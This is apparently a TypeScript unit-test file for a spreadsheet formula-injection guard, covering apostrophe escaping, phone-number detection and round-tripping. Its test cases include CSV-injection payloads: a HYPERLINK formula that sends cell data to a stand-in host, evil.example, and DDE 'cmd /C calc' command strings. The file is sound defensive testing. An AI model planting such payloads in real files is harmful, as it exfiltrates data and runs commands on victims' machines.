import { describe, expect, it } from 'vitest';
import {
  isFormulaLike,
  isPhoneLike,
  neutraliseFormula,
  neutraliseXlsxText,
  removeFormulaGuard,
} from '../../main/spreadsheets/formula-guard';

describe('formula guard', () => {
  // [input, CSV rule, xlsx rule]
  const cases: [string, string, string][] = [
    [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
    ],
    ['=1+1', "'=1+1", "'=1+1"],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`, `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['+7 916 123-45-67', "'+7 916 123-45-67", '+7 916 123-45-67'],
    ['+7 (916) 123-45-67 доб. 12', "'+7 (916) 123-45-67 доб. 12", '+7 (916) 123-45-67 доб. 12'],
    ['+1.555.010.9999 ext 7', "'+1.555.010.9999 ext 7", '+1.555.010.9999 ext 7'],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)", "'+SUM(A1:A9)"],
    ['+', "'+", "'+"],
    ['-5', "'-5", "'-5"],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`, `'-2+3+cmd|" /C calc"!A0`],
    ['\t=1', "'\t=1", "'\t=1"],
    ['\r=1', "'\r=1", "'\r=1"],
    ['Иванов Иван', 'Иванов Иван', 'Иванов Иван'],
    ['a=b', 'a=b', 'a=b'],
    [' =1', ' =1', ' =1'],
    // Text that starts like guarded text gets one more apostrophe: the import takes one off.
    ["'=already", "''=already", "''=already"],
    ["''+1", "'''+1", "'''+1"],
    ["'plain", "'plain", "'plain"],
    ['', '', ''],
  ];

  it.each(cases)('%j → CSV %j, xlsx %j, and back', (input, csv, xlsx) => {
    expect(neutraliseFormula(input)).toBe(csv);
    expect(neutraliseXlsxText(input)).toBe(xlsx);
    expect(removeFormulaGuard(csv)).toBe(input);
    expect(removeFormulaGuard(xlsx)).toBe(input);
  });

  it('detects formula starts and phone numbers', () => {
    expect(['=', '+', '-', '@', '\t', '\r'].every((c) => isFormulaLike(`${c}x`))).toBe(true);
    expect(isFormulaLike('x=')).toBe(false);
    expect(isFormulaLike('\n=1')).toBe(false);
    expect(isPhoneLike('+7 916 123-45-67')).toBe(true);
    expect(isPhoneLike('+7(916)1234567x89')).toBe(true);
    expect(isPhoneLike('+7 916 123-45-67 ext. 5')).toBe(true);
    expect(isPhoneLike('+()- .')).toBe(false);
    expect(isPhoneLike('+7 916 CALL')).toBe(false);
    expect(isPhoneLike('7 916 123-45-67')).toBe(false);
  });
});
